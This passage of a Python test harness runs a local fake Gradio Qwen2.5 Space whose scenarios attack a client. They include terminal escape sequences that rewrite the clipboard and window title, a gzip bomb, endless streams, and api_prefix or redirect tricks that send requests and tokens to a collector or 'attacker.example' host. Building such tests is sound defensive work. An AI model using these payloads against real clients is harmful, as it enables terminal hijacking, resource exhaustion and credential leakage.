#!/usr/bin/env python3
"""Hostile Gradio Spaces: one fake Qwen2.5 Space (Gradio 4.44.1, protocol sse_v3) per attack.

Standard library only. ONE process listens on many ports of 127.0.0.1: one port per scenario
(the scenario is chosen by the port, so a scenario's root URL has no path), plus

  collector  records every request it gets and answers 200 {}: "another host" a hostile config
             tries to send requests to. GET /debug/requests[?since=SEQ] lists everything recorded
             anywhere (collector, proxy, stray hosts, every scenario port), with headers;
             GET /debug/reset forgets it.
  proxy      an HTTP forward proxy: `CONNECT host:port` (and absolute-form requests) are served
             here, by the scenario named by the first label of `<scenario>.hf.space`; any other
             host (`x.hf.space.attacker.example`) is recorded as a stray request and answered
             200 {}.

On start it prints one line of JSON and flushes:
  {"scenarios": {"name": "http://127.0.0.1:PORT", ...}, "collector": "http://...", "proxy": "http://..."}
and exits on SIGTERM/SIGINT or after MAX_LIFETIME seconds (env, default 3600).

Every scenario is a normal-looking Space (config, /info, join, data stream, cancel; a reply is
"Echo: <query>" in 3-char append ops like harness/fault_server.py) except for its attack. The
scenarios and what a client should do about them are listed in harness/README.md and
docs/reliability.md; `python3 harness/hostile_server.py --list` prints them.
HOSTILE_DEEP_OPS (default 4000) and HOSTILE_TABLE_ROWS (default 32000) resize two attacks.
"""

import asyncio
import json
import os
import signal
import sys
import time
import urllib.parse
import uuid
import zlib

MAX_LIFETIME = float(os.environ.get("MAX_LIFETIME", "3600"))
TOKEN_CHARS = 3
SYSTEM_DEFAULT = "You are Qwen, created by Alibaba Cloud. You are a helpful assistant."
MODEL_SIZES = ["72B", "32B", "14B", "7B", "3B", "1.5B", "0.5B"]

# The escape sequences the injection scenarios hide in everything a client may print.
TITLE = "\x1b]0;PWNED\x07"                                     # set the window title
CLEAR = "\x1b[2J"                                              # clear the screen
CLIPBOARD = "\x1b]52;c;cHduZWQ=\x07"                           # write the clipboard
OSC8 = "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"   # a hyperlink
C1_CSI = "\u009b2J"                                            # clear, as a C1 control
BIDI = "\u202e"                                                # right-to-left override
EVIL = TITLE + CLEAR + CLIPBOARD + OSC8 + C1_CSI + BIDI
# 55 characters, then the title sequence: a 60-character cut (59 + "…") falls inside it.
LONG_LABEL = "Type your message to Qwen here, then press the Enter key " + EVIL

CTX = {"collector": None, "proxy": None, "scenarios": {}}

# --- the request log ---------------------------------------------------------------------------

LOG = []
SEQ = [0]


def record(kind, method, target, headers, host=None, scenario=None, body=b""):
    SEQ[0] += 1
    path = urllib.parse.urlsplit(target).path if not target.startswith("/") else target.split("?", 1)[0]
    LOG.append({
        "seq": SEQ[0], "time": time.time(), "kind": kind, "scenario": scenario, "host": host,
        "method": method, "target": target, "path": path,
        "headers": [[name, value] for name, value in headers],
        "body": body[:2048].decode("utf-8", "replace"),
    })


# --- HTTP plumbing -----------------------------------------------------------------------------

class Request:
    def __init__(self, method, target, headers, body):
        self.method = method
        self.target = target
        parsed = urllib.parse.urlsplit(target)
        self.path = parsed.path or "/"
        self.query = dict(urllib.parse.parse_qsl(parsed.query))
        self.header_list = headers                      # [(name, value)] as received
        self.headers = {n.lower(): v for n, v in headers}
        self.body = body


async def read_request(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    method, target, _ = lines[0].split(" ", 2)
    headers = []
    for line in lines[1:]:
        if ":" in line:
            name, value = line.split(":", 1)
            headers.append((name.strip(), value.strip()))
    length = int(dict((n.lower(), v) for n, v in headers).get("content-length", "0") or 0)
    body = await reader.readexactly(length) if length else b""
    return Request(method, target, headers, body)


class Out:
    """One HTTP/1.1 response on one connection (which closes afterwards)."""

    def __init__(self, reader, writer):
        self.r = reader
        self.w = writer

    @property
    def closed(self):
        return self.w.transport is None or self.w.transport.is_closing()

    async def raw(self, data):
        self.w.write(data)
        await self.w.drain()

    async def respond(self, status, body, content_type="application/json", headers=()):
        if isinstance(body, (dict, list)):
            body = json.dumps(body)
        if isinstance(body, str):
            body = body.encode()
        head = f"HTTP/1.1 {status} {REASONS.get(status, 'OK')}\r\nserver: hostile-server\r\ncontent-type: {content_type}\r\n"
        head += "".join(f"{n}: {v}\r\n" for n, v in headers)
        head += f"content-length: {len(body)}\r\nconnection: close\r\n\r\n"
        await self.raw(head.encode("latin-1") + body)

    async def start_chunked(self, content_type="text/event-stream; charset=utf-8", headers=()):
        head = f"HTTP/1.1 200 OK\r\nserver: hostile-server\r\ncontent-type: {content_type}\r\n"
        head += "".join(f"{n}: {v}\r\n" for n, v in headers)
        head += "cache-control: no-cache\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n"
        await self.raw(head.encode("latin-1"))

    async def chunk(self, data):
        if data:
            await self.raw(b"%x\r\n" % len(data) + data + b"\r\n")

    async def event(self, obj):
        await self.chunk(b"data: " + json.dumps(obj, ensure_ascii=False).encode() + b"\n\n")

    async def end(self):
        await self.raw(b"0\r\n\r\n")

    async def until_client_leaves(self, limit=MAX_LIFETIME):
        """Answer nothing; return when the client closes its side (or after `limit` s)."""
        try:
            await asyncio.wait_for(self.r.read(), timeout=limit)
        except (asyncio.TimeoutError, ConnectionError):
            pass


REASONS = {200: "OK", 302: "Found", 307: "Temporary Redirect", 404: "Not Found", 422: "Unprocessable Entity"}


# --- a Qwen2.5-shaped Space ----------------------------------------------------------------------

def radio(cid, label, choices, value=None, visible=True):
    props = {"choices": [[c, c] for c in choices], "type": "value", "visible": visible, "interactive": True}
    if label is not None:
        props["label"] = label
    if value is not None:
        props["value"] = value
    return {"id": cid, "type": "radio", "props": props}


def textbox(cid, label, value=None, visible=True):
    props = {"type": "text", "visible": visible, "lines": 1}
    if label is not None:
        props["label"] = label
    if value is not None:
        props["value"] = value
    return {"id": cid, "type": "textbox", "props": props}


def qwen_config(version="4.44.1", api_name="model_chat", model_label="Qwen2.5", choices=None,
                system_default=SYSTEM_DEFAULT, input_label="Input", chatbot_label="72b", api_prefix=None, protocol="sse_v3"):
    """The Qwen2.5 Space's layout (harness/replica_space), compact: a model radio, a system
    textbox, the chatbot and the input box; `model_chat` is dependency 3 with trigger 25."""
    choices = MODEL_SIZES if choices is None else choices
    config = {
        "version": version, "mode": "blocks", "protocol": protocol, "enable_queue": True, "show_error": True,
        "title": "Qwen2.5", "space_id": "Qwen/Qwen2.5",
        "components": [
            radio(4, model_label, choices, value=choices[0]),
            textbox(18, "System", value=system_default),
            textbox(22, None, value=system_default, visible=False),
            {"id": 24, "type": "modelscopechatbot", "props": {"value": [], "label": chatbot_label, "visible": True}},
            textbox(25, input_label),
        ],
        "dependencies": [
            {"id": 3, "api_name": api_name, "targets": [[25, "submit"]], "inputs": [25, 24, 22, 4], "outputs": [25, 24, 18],
             "backend_fn": True, "queue": True, "show_api": True, "js": None},
        ],
        "root": "",
    }
    if api_prefix is not None:
        config["api_prefix"] = api_prefix
    return config


def qwen_info(api_name="model_chat", names=("query", "history", "system", "radio")):
    def param(label, name, component):
        return {"label": label, "parameter_name": name, "parameter_has_default": False, "parameter_default": None,
                "type": {"type": "string"}, "python_type": {"type": "str", "description": ""}, "component": component,
                "example_input": "Hello!!"}
    return {"named_endpoints": {"/" + api_name: {
        "parameters": [param("Input", names[0], "Textbox"), param("72b", names[1], "Modelscopechatbot"),
                       param("parameter_22", names[2], "Textbox"), param("Qwen2.5", names[3], "Radio")],
        "returns": []}}, "unnamed_endpoints": {}}


def message_object(text):
    return {"id": None, "elem_id": None, "elem_classes": None, "name": None, "text": text,
            "flushing": None, "avatar": "", "files": None}


def chatbot(job, reply):
    pairs = [[message_object(u), message_object(a)] for u, a in job["history"]]
    pairs.append([message_object(job["message"]), message_object(reply)])
    return pairs


def generating_full(job, reply, extra=None):
    output = {"data": ["", chatbot(job, reply), job["system"]], "is_generating": True}
    if extra:
        output.update(extra)
    return {"msg": "process_generating", "event_id": job["event_id"], "output": output, "success": True}


def generating_ops(job, ops):
    return {"msg": "process_generating", "event_id": job["event_id"],
            "output": {"data": [[], ops, []], "is_generating": True}, "success": True}


def append_op(job, piece):
    return ["append", [len(job["history"]), 1, "text"], piece]


def completed(job, reply):
    return {"msg": "process_completed", "event_id": job["event_id"],
            "output": {"data": ["", chatbot(job, reply), job["system"]], "is_generating": False}, "success": True}


def echo(job):
    return "Echo: " + job["message"]


def tokens(text):
    return [text[i:i + TOKEN_CHARS] for i in range(0, len(text), TOKEN_CHARS)]


async def preamble(out, job, estimation=None, eta=0.1):
    await out.event(estimation or {"msg": "estimation", "event_id": job["event_id"], "rank": 0, "queue_size": 1, "rank_eta": 0.1})
    await out.event({"msg": "process_starts", "event_id": job["event_id"], "eta": eta})


async def stream_reply(out, job, reply, delay=0.0, count=None):
    parts = tokens(reply)[:count]
    for i, piece in enumerate(parts):
        await out.event(generating_full(job, piece) if i == 0 else generating_ops(job, [append_op(job, piece)]))
        if delay:
            await asyncio.sleep(delay)


async def finish_reply(out, job, reply):
    await out.event(completed(job, reply))
    await out.event({"msg": "close_stream", "event_id": None})
    await out.end()


async def normal_reply(out, job, reply=None, delay=0.0):
    reply = echo(job) if reply is None else reply
    await preamble(out, job)
    await stream_reply(out, job, reply, delay=delay)
    await finish_reply(out, job, reply)


class Space:
    """A normal Space; each scenario overrides the part it attacks."""
    name = "normal"
    doc = "a normal Space: the control case"
    stream_headers = ()

    def __init__(self):
        self.sessions = {}
        self._config_bytes = None

    def config(self):
        return qwen_config()

    def info(self):
        return qwen_info()

    def config_bytes(self):
        if self._config_bytes is None:
            self._config_bytes = json.dumps(self.config()).encode()
        return self._config_bytes

    async def handle(self, req, out):
        path = req.path
        if path.endswith("/config"):
            await self.serve_config(req, out)
        elif path.endswith("/info"):
            await self.serve_info(req, out)
        elif path.endswith("/queue/join") and req.method == "POST":
            await self.serve_join(req, out)
        elif path.endswith("/queue/data"):
            await self.serve_data(req, out)
        elif path.endswith("/cancel") and req.method == "POST":
            await self.serve_cancel(req, out)
        else:
            await out.respond(404, {"detail": "Not Found"})

    async def serve_config(self, req, out):
        await out.respond(200, self.config_bytes())

    async def serve_info(self, req, out):
        await out.respond(200, self.info())

    async def serve_join(self, req, out):
        try:
            payload = json.loads(req.body or b"{}")
            data = payload["data"]
            message = str(data[0])
            session_hash = str(payload["session_hash"])
        except (ValueError, KeyError, IndexError, TypeError):
            await out.respond(422, {"detail": "bad join"})
            return
        history = data[1] if len(data) > 1 and isinstance(data[1], list) else []
        history = [(str(p[0]), str(p[1])) for p in history if isinstance(p, list) and len(p) >= 2]
        system = str(data[2]) if len(data) > 2 and data[2] is not None else SYSTEM_DEFAULT
        job = {"event_id": uuid.uuid4().hex, "message": message, "history": history, "system": system,
               "model": data[3] if len(data) > 3 else None}
        self.sessions[session_hash] = job
        await out.respond(200, {"event_id": job["event_id"]})

    async def serve_data(self, req, out):
        job = self.sessions.pop(req.query.get("session_hash", ""), None)
        await out.start_chunked(headers=self.stream_headers)
        if job is None:
            await out.event({"msg": "unexpected_error", "event_id": None, "message": "404: Session not found.", "success": False})
            await out.end()
            return
        await self.stream(out, job)

    async def stream(self, out, job):
        await normal_reply(out, job)

    async def serve_cancel(self, req, out):
        await out.respond(200, {"success": True})


SCENARIOS = {}


def scenario(cls):
    SCENARIOS[cls.name] = cls()
    return cls


scenario(Space)


def big_object(count=300_000):
    """`count` distinct keys, about 11 bytes each."""
    return "{" + ",".join(f'"k{i:06d}":{i % 10}' for i in range(count)) + "}"


# --- 1. numbers that overflow ------------------------------------------------------------------

@scenario
class RankOverflow(Space):
    name = "rank-overflow"
    doc = 'estimation with rank and queue_size 9223372036854775807 (Int.max), then a normal reply'

    async def stream(self, out, job):
        big = 9223372036854775807
        await out.event({"msg": "estimation", "event_id": job["event_id"], "rank": big, "queue_size": big, "rank_eta": 1.0})
        await normal_reply(out, job)


@scenario
class RankETA(Space):
    name = "rank-eta"
    doc = 'estimation with rank_eta 1e300 and process_starts with eta 1e300, then a normal reply'

    async def stream(self, out, job):
        await out.event({"msg": "estimation", "event_id": job["event_id"], "rank": 3, "queue_size": 5, "rank_eta": 1e300})
        await out.event({"msg": "estimation", "event_id": job["event_id"], "rank": 0, "queue_size": 1, "rank_eta": 1e300})
        await preamble(out, job, eta=1e300)
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class RankWeird(Space):
    name = "rank-weird"
    doc = ('estimations with negative, Int.min, fractional, 1e300, string and null ranks and sizes, negative '
           'and tiny ETAs, then a normal reply')

    async def stream(self, out, job):
        eid = job["event_id"]
        for rank, size, eta in [(-1, -1, -1.0), (-9223372036854775808, -9223372036854775808, -1e300),
                                (1e300, 1e300, 1e-320), (2.5, 7.5, 5e-324), ("3", "4", "soon"), (None, None, None),
                                (-2, 3, 1.7976931348623157e308), (9223372036854775806, 9223372036854775807, 0.5)]:
            await out.event({"msg": "estimation", "event_id": eid, "rank": rank, "queue_size": size, "rank_eta": eta})
        await preamble(out, job, eta=-1e300)
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class NaNNumbers(Space):
    name = "nan-numbers"
    doc = 'estimation / process_starts with bare NaN, Infinity, -Infinity (not JSON), then a normal reply'

    async def stream(self, out, job):
        eid = job["event_id"]
        await out.chunk(('data: {"msg": "estimation", "event_id": "%s", "rank": NaN, "queue_size": Infinity, '
                         '"rank_eta": -Infinity}\n\n' % eid).encode())
        await out.chunk(('data: {"msg": "process_starts", "event_id": "%s", "eta": NaN}\n\n' % eid).encode())
        await normal_reply(out, job)


# --- 2. a value that grows deeper with every op ---------------------------------------------------

DEEP = 500
DEEP_OPS = int(os.environ.get("HOSTILE_DEEP_OPS", "4000"))


@scenario
class DeepEdits(Space):
    name = "deep-edits"
    doc = (f'{DEEP_OPS} edit ops, op k puts a {DEEP}-deep list at a path of length k inside the previous one: '
           f'each message is under {DEEP + 10} levels, the value grows without bound')

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event(generating_full(job, "Ech"))
        nested = "[" * DEEP + "]" * DEEP
        k = len(job["history"])
        for i in range(DEEP_OPS):
            if out.closed:
                return
            op, path = ("add", [k, 1, "deep"]) if i == 0 else ("replace", [k, 1, "deep"] + [0] * i)
            head = json.dumps({"msg": "process_generating", "event_id": job["event_id"],
                               "output": {"data": [[], [[op, path, None]], []], "is_generating": True}, "success": True})
            await out.chunk(b"data: " + head.replace("null]]", nested + "]]", 1).encode() + b"\n\n")
        await finish_reply(out, job, echo(job))


# --- 3. memory -------------------------------------------------------------------------------

BLOCK = b"A" * 65536


class Endless(Space):
    """A normal start (two tokens), then one line that never ends."""
    line_start = b"data: "

    async def stream(self, out, job):
        await preamble(out, job)
        await stream_reply(out, job, echo(job), count=2)
        await out.chunk(self.line_start)
        deadline = time.monotonic() + 600
        while not out.closed and time.monotonic() < deadline:
            await out.chunk(BLOCK)


@scenario
class EndlessData(Endless):
    name = "endless-data"
    doc = '`data: ` then an endless line of A (64 KB chunks, as fast as the client reads)'


@scenario
class EndlessComment(Endless):
    name = "endless-comment"
    doc = 'an endless `:` comment line'
    line_start = b":"


@scenario
class EndlessEventField(Endless):
    name = "endless-event-field"
    doc = 'an endless `event: ` field line'
    line_start = b"event: "


def _deflate_block():
    """1 MB of A as raw deflate ending in a full flush: the same bytes wherever it is put."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    c.compress(b"A" * (1 << 20))
    c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(b"A" * (1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    check = zlib.decompressobj(-15)
    assert check.decompress(block * 2) == b"A" * (2 << 20)
    return block


@scenario
class GzipBomb(Space):
    name = "gzip-bomb"
    doc = 'the data stream is `Content-Encoding: gzip`: ~3 MB that inflate to 3 GB (a start, then one endless line)'
    stream_headers = (("content-encoding", "gzip"),)
    _block = None

    async def stream(self, out, job):
        if GzipBomb._block is None:
            GzipBomb._block = _deflate_block()
        start = [{"msg": "estimation", "event_id": job["event_id"], "rank": 0, "queue_size": 1, "rank_eta": 0.1},
                 {"msg": "process_starts", "event_id": job["event_id"], "eta": 0.1}, generating_full(job, "Ech")]
        text = b"".join(b"data: " + json.dumps(e).encode() + b"\n\n" for e in start) + b"data: "
        c = zlib.compressobj(9, zlib.DEFLATED, 31)
        await out.chunk(c.compress(text) + c.flush(zlib.Z_FULL_FLUSH))
        batch = GzipBomb._block * 16  # 16 MB inflated per chunk
        for _ in range(3 * 1024 // 16):
            if out.closed:
                return
            await out.chunk(batch)
        await out.end()


def huge_unit():
    return ("0123456789abcdef" * 4 + "\n") * 1008  # 65,520 characters


@scenario
class HugeReply(Space):
    name = "huge-reply"
    doc = 'a well-formed reply that grows by 64 KB append ops to 200 MB (then the stream ends)'

    async def stream(self, out, job):
        await preamble(out, job)
        first = echo(job) + "\n"
        await out.event(generating_full(job, first))
        event = b"data: " + json.dumps(generating_ops(job, [append_op(job, huge_unit())])).encode() + b"\n\n"
        for _ in range(200 * 1024 * 1024 // len(huge_unit())):
            if out.closed:
                return
            await out.chunk(event)
        await out.end()


@scenario
class EndlessConfig(Space):
    name = "endless-config"
    doc = '/config answers 200 with a JSON body that never ends (`{"a":"AAAA...`)'

    async def serve_config(self, req, out):
        await out.start_chunked(content_type="application/json")
        await out.chunk(b'{"version": "4.44.1", "a": "')
        deadline = time.monotonic() + 600
        while not out.closed and time.monotonic() < deadline:
            await out.chunk(BLOCK)


@scenario
class EndlessHeader(Space):
    name = "endless-header"
    doc = '/config answers `HTTP/1.1 200 OK` and a header line that never ends'

    async def serve_config(self, req, out):
        await out.raw(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nx-hostile: ")
        deadline = time.monotonic() + 600
        while not out.closed and time.monotonic() < deadline:
            await out.raw(BLOCK)


@scenario
class ZerosArray(Space):
    name = "zeros-array"
    doc = 'one process_generating whose output has an extra member: a 10-million-element array of zeros (20 MB), then the reply'

    async def stream(self, out, job):
        await preamble(out, job)
        event = json.dumps(generating_full(job, "Ech", extra={"hostile": "@@@"})).encode()
        zeros = b"[" + b"0," * (10_000_000 - 1) + b"0]"
        await out.chunk(b"data: " + event.replace(b'"@@@"', zeros, 1) + b"\n\n")
        reply = echo(job)
        for piece in tokens(reply)[1:]:
            await out.event(generating_ops(job, [append_op(job, piece)]))
        await finish_reply(out, job, reply)


# --- 4. terminal injection ---------------------------------------------------------------------

INJECT_API_NAME = "model_chat" + EVIL


@scenario
class Inject(Space):
    name = "inject"
    doc = ('escape sequences (title, clear, clipboard, OSC 8, C1 CSI, U+202E) in the version, api_name, labels, '
           'model choices, the system prompt default, /info parameter names and gr.Warning/gr.Info logs')

    def config(self):
        return qwen_config(version="4.44.1" + EVIL, api_name=INJECT_API_NAME, model_label="Model" + EVIL,
                           choices=["72B", "7B" + EVIL, "Coder" + EVIL + "-1.5B"], system_default="You are Qwen." + EVIL,
                           input_label=LONG_LABEL, chatbot_label="Chat" + EVIL)

    def info(self):
        return qwen_info(INJECT_API_NAME, names=("query" + EVIL, "history" + EVIL, "system" + EVIL, "radio" + EVIL))

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event({"msg": "log", "event_id": job["event_id"], "level": "warning", "log": "careful " + EVIL})
        await out.event({"msg": "log", "event_id": job["event_id"], "level": "INFO" + EVIL, "log": LONG_LABEL})
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class InjectError(Space):
    name = "inject-error"
    doc = 'the job fails (show_error): process_completed success false, output.error holding escape sequences'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event({"msg": "process_completed", "event_id": job["event_id"],
                         "output": {"error": "model exploded " + EVIL + " " + LONG_LABEL}, "success": False})
        await out.event({"msg": "close_stream", "event_id": None})
        await out.end()


@scenario
class ZeroGPUWait(Space):
    name = "zerogpu-wait"
    doc = ('the job fails as ZeroGPU out of quota (title and all), with a wait of 10^20 hours, a link whose '
           'target and text hold escapes, and 5,000 unclosed tags: the rewording must neither trap nor obey')

    async def stream(self, out, job):
        await preamble(out, job)
        text = ("You have exceeded your free ZeroGPU quota (60s requested vs. 43s left). "
                "Try again in 99999999999999999999:00:00. "
                '<a style="x" href="javascript:' + EVIL + '">Subscribe' + EVIL + "</a> " + "<b" * 5000)
        await out.event({"msg": "process_completed", "event_id": job["event_id"],
                         "output": {"error": text, "title": "ZeroGPU quota exceeded" + EVIL}, "success": False})
        await out.event({"msg": "close_stream", "event_id": None})
        await out.end()


@scenario
class InjectVersion(Space):
    name = "inject-version"
    doc = 'a config with protocol "ws" (unsupported) and a version string holding escape sequences'

    def config(self):
        return qwen_config(version="3.50.2" + EVIL, protocol="ws")


@scenario
class InjectEditError(Space):
    name = "inject-editerror"
    doc = 'an edit op that cannot apply: its path goes through the reply text by a key holding escape sequences'

    async def stream(self, out, job):
        await preamble(out, job)
        await stream_reply(out, job, echo(job), count=2)
        key = BIDI + C1_CSI + TITLE + CLEAR + CLIPBOARD + OSC8
        await out.event(generating_ops(job, [["replace", [len(job["history"]), 1, "text", key], "x" + EVIL]]))
        await finish_reply(out, job, echo(job))


@scenario
class InjectEditOp(Space):
    name = "inject-editop"
    doc = 'an edit op whose op name holds escape sequences (an unknown op, quoted in the error)'

    async def stream(self, out, job):
        await preamble(out, job)
        await stream_reply(out, job, echo(job), count=2)
        name = BIDI + C1_CSI + "append" + TITLE + CLEAR + CLIPBOARD
        await out.event(generating_ops(job, [[name, [len(job["history"]), 1, "text"], "x"]]))
        await finish_reply(out, job, echo(job))


@scenario
class InjectUnexpected(Space):
    name = "inject-unexpected"
    doc = 'the data stream says unexpected_error with a message holding escape sequences'

    async def stream(self, out, job):
        await out.event({"msg": "unexpected_error", "event_id": None, "message": "boom " + EVIL, "success": False})
        await out.end()


@scenario
class InjectJoinDetail(Space):
    name = "inject-join-detail"
    doc = 'the join answers HTTP 422 with a JSON detail holding escape sequences'

    async def serve_join(self, req, out):
        await out.respond(422, {"detail": "bad input " + EVIL + " " + LONG_LABEL})


# --- 5. where requests go ------------------------------------------------------------------------

class Prefixed(Space):
    def prefix(self):
        raise NotImplementedError

    def config(self):
        return qwen_config(api_prefix=self.prefix())


@scenario
class PrefixAt(Prefixed):
    name = "prefix-at"
    doc = 'api_prefix "@127.0.0.1:<collector>": root + prefix makes the collector the host'

    def prefix(self):
        return "@127.0.0.1:%d" % CTX["collector"]


@scenario
class PrefixURL(Prefixed):
    name = "prefix-url"
    doc = 'api_prefix "http://127.0.0.1:<collector>/x"'

    def prefix(self):
        return "http://127.0.0.1:%d/x" % CTX["collector"]


@scenario
class PrefixDotted(Prefixed):
    name = "prefix-dotted"
    doc = 'api_prefix ".attacker.example": http://prefix-dotted.hf.space becomes http://prefix-dotted.hf.space.attacker.example'

    def prefix(self):
        return ".attacker.example"


@scenario
class PrefixSlashes(Prefixed):
    name = "prefix-slashes"
    doc = 'api_prefix "//127.0.0.1:<collector>" (a network-path reference)'

    def prefix(self):
        return "//127.0.0.1:%d" % CTX["collector"]


@scenario
class PrefixDotDot(Prefixed):
    name = "prefix-dotdot"
    doc = 'api_prefix "/../../x"'

    def prefix(self):
        return "/../../x"


@scenario
class TokenHF(Space):
    name = "token-hf"
    doc = 'a normal Space reached as http://token-hf.hf.space through the proxy: where HF_TOKEN goes'


@scenario
class TokenExplicit(Space):
    name = "token-explicit"
    doc = 'a normal Space on 127.0.0.1: where --token (and HF_TOKEN) go for a bare --url'


@scenario
class Redirect(Space):
    name = "redirect"
    doc = '/config answers 302 to the collector (and every other request 307 to it)'

    async def handle(self, req, out):
        status = 302 if req.path.endswith("/config") else 307
        location = "http://127.0.0.1:%d%s" % (CTX["collector"], req.target)
        await out.respond(status, {"detail": "moved"}, headers=(("location", location),))


@scenario
class RedirectJoin(Space):
    name = "redirect-join"
    doc = 'a normal config; the join answers 307 to the collector'

    async def serve_join(self, req, out):
        location = "http://127.0.0.1:%d/queue/join" % CTX["collector"]
        await out.respond(307, {"detail": "moved"}, headers=(("location", location),))


@scenario
class SetCookie(Space):
    name = "set-cookie"
    doc = ('every answer sets cookies: for the app (may come back to it, and only to it), and others a client '
           'must drop: for hf.space, for another path, Secure over http, expired, 5 KB')

    async def handle(self, req, out):
        real = out.respond

        async def respond(status, body, content_type="application/json", headers=()):
            cookies = (("set-cookie", "session=s1; Path=/"), ("set-cookie", "token=evil; Domain=127.0.0.1; Path=/"),
                       ("set-cookie", "hf=evil; Domain=hf.space; Path=/"), ("set-cookie", "elsewhere=1; Path=/nowhere"),
                       ("set-cookie", "secure=1; Secure; Path=/"), ("set-cookie", "old=1; Max-Age=0"),
                       ("set-cookie", "big=" + "x" * 5000))
            await real(status, body, content_type, tuple(headers) + cookies)
        out.respond = respond
        await super().handle(req, out)


# --- 6. Ctrl-C held hostage --------------------------------------------------------------------

def slow_text():
    return " ".join(f"slow{i}" for i in range(3000))


class SlowCancel(Space):
    async def stream(self, out, job):
        await preamble(out, job)
        await stream_reply(out, job, slow_text(), delay=0.2)
        await finish_reply(out, job, slow_text())


@scenario
class CancelTrickle(SlowCancel):
    name = "cancel-trickle"
    doc = 'a slow reply (a token per 0.2 s for minutes); /cancel answers 200 headers, then one body byte every 2 s forever'

    async def serve_cancel(self, req, out):
        await out.start_chunked(content_type="application/json")
        body = b'{"success": true}'
        i = 0
        deadline = time.monotonic() + 600
        while not out.closed and time.monotonic() < deadline:
            await out.chunk(body[i:i + 1] if i < len(body) else b" ")
            i += 1
            await asyncio.sleep(2)


@scenario
class CancelSilent(SlowCancel):
    name = "cancel-silent"
    doc = 'a slow reply; /cancel accepts the connection and never answers'

    async def serve_cancel(self, req, out):
        await out.until_client_leaves()


# --- 7. CPU ------------------------------------------------------------------------------------

@scenario
class WideConfig(Space):
    name = "wide-config"
    doc = 'a valid Qwen-shaped config plus a member holding an object of 300,000 distinct keys (~3.6 MB)'

    def config_bytes(self):
        if self._config_bytes is None:
            text = json.dumps(qwen_config())
            self._config_bytes = ('{"hostile": ' + big_object() + ", " + text[1:]).encode()
        return self._config_bytes


@scenario
class WideEvent(Space):
    name = "wide-event"
    doc = 'one process_generating whose output has a member with a 300,000-key object, then the normal reply'
    _object = None

    async def stream(self, out, job):
        if WideEvent._object is None:
            WideEvent._object = big_object().encode()
        await preamble(out, job)
        event = json.dumps(generating_full(job, "Ech", extra={"hostile": "@@@"})).encode()
        await out.chunk(b"data: " + event.replace(b'"@@@"', WideEvent._object, 1) + b"\n\n")
        reply = echo(job)
        for piece in tokens(reply)[1:]:
            await out.event(generating_ops(job, [append_op(job, piece)]))
        await finish_reply(out, job, reply)


@scenario
class TrickleConfig(Space):
    name = "trickle-config"
    doc = '/config sends its headers, then one byte of the config every 2 s, forever'

    async def serve_config(self, req, out):
        await out.start_chunked(content_type="application/json")
        body = self.config_bytes()
        i = 0
        deadline = time.monotonic() + 600
        while not out.closed and time.monotonic() < deadline:
            await out.chunk(body[i:i + 1] if i < len(body) else b" ")
            i += 1
            await asyncio.sleep(2)


def table_text(rows=int(os.environ.get("HOSTILE_TABLE_ROWS", "32000"))):
    return "| a | b |\n|---|---|\n" + "".join(f"| a{i} | b{i} |\n" for i in range(1, rows + 1))


@scenario
class TableRows(Space):
    name = "table-rows"
    doc = 'a reply that is a Markdown table of 32,000 rows, streamed quickly (100 rows per event)'

    async def stream(self, out, job):
        reply = table_text()
        lines = reply.splitlines(keepends=True)
        await preamble(out, job)
        await out.event(generating_full(job, "".join(lines[:2])))
        for i in range(2, len(lines), 100):
            await out.event(generating_ops(job, [append_op(job, "".join(lines[i:i + 100]))]))
        await finish_reply(out, job, reply)


@scenario
class InjectThinking(Space):
    name = "inject-thinking"
    doc = 'a reply whose inline <think> reasoning (and answer) hide the escape sequences, streamed in 3-char tokens'

    async def stream(self, out, job):
        reply = "<think>\nreasoning " + EVIL + "\nmore\n</think>\n\nanswer " + EVIL
        await normal_reply(out, job, reply)


@scenario
class LongLine(Space):
    name = "long-line"
    doc = 'a reply that is one 4 MB line with no line break, streamed in 2,000 appends'

    async def stream(self, out, job):
        piece = "word " * 400
        await preamble(out, job)
        await out.event(generating_full(job, piece))
        for _ in range(1999):
            await out.event(generating_ops(job, [append_op(job, piece)]))
        await finish_reply(out, job, piece * 2000)


@scenario
class LogFlood(Space):
    name = "log-flood"
    doc = '100,000 gr.Info messages (log events) before a normal reply'

    async def stream(self, out, job):
        unit = "".join('data: {"msg":"log","event_id":"%s","level":"info","log":"message %d"}\n\n' % (job["event_id"], i)
                       for i in range(1000)).encode()
        await preamble(out, job)
        for _ in range(100):
            await out.chunk(unit)
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class TinyEvents(Space):
    name = "tiny-events"
    doc = '1,000,000 tiny events (heartbeats, comments, unknown msgs, progress) before a normal reply'
    _flood = None

    async def stream(self, out, job):
        if TinyEvents._flood is None:
            unit = (b'data: {"msg":"heartbeat"}\n\n' b':\n\n' b'data: {"msg":"x"}\n\n'
                    b'data: {"msg":"progress","progress_data":null}\n\n') * 2500
            TinyEvents._flood = unit  # 10,000 events
        await preamble(out, job)
        for _ in range(100):
            await out.chunk(TinyEvents._flood)
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class EventIdFlood(Space):
    name = "eventid-flood"
    doc = ('100,000 events for other event ids (generating with whole chatbots, a completion, an error) '
           'interleaved with the real reply')

    async def stream(self, out, job):
        other = dict(job, event_id="not-" + job["event_id"])
        noise = b"".join(b"data: " + json.dumps(e).encode() + b"\n\n" for e in [
            generating_full(other, "WRONG " * 20),
            generating_ops(other, [["replace", [0, 1, "text"], "WRONG"]]),
            {"msg": "process_completed", "event_id": other["event_id"], "output": {"data": ["", chatbot(other, "WRONG"), ""]}, "success": True},
            {"msg": "process_completed", "event_id": other["event_id"], "output": {"error": "WRONG"}, "success": False},
